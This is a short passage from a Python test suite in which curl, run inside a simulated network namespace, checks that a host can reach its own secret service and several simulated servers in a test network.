def test_the_host_itself_reaches_its_secret(net, host_server, address):
    fetch = ['curl', '-sS', '-g', '--max-time', '5', f'http://{address}:{SECRET_PORT}/']
    done = subprocess.run(fetch, stdout=subprocess.PIPE, check=True, preexec_fn=lambda: net.world.enter(net.world.host))
    assert done.stdout.decode() == SECRET


@pytest.mark.parametrize('address', [w.OTHER4, w.PRIVATE4, w.METADATA4, w.WEB4])
def test_the_host_itself_reaches_the_servers(net, host_server, address):
    fetch = ['curl', '-sS', '--max-time', '5', f'http://{address}/x']
    done = subprocess.run(fetch, stdout=subprocess.PIPE, check=True, preexec_fn=lambda: net.world.enter(net.world.host))
    assert done.stdout.decode() == f'GET /x at {address}\n'
